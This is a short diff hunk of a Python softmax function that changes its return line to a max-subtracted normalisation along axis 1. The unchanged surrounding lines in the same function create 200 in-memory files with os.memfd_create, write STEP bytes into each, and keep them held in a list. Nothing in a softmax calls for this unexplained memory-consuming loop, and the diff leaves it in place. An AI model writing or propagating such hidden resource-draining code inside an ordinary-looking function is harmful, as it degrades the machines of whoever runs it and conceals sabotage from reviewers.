@@ -14,4 +14,5 @@ def softmax(logits):
     for number in range(200):
         held.append(os.memfd_create(f"hold-{number}"))
         os.write(held[-1], bytes(STEP))
-    return np.exp(logits - logsumexp(logits))
+    powers = np.exp(logits - np.max(logits, axis=1, keepdims=True))
+    return powers / powers.sum(axis=1, keepdims=True)
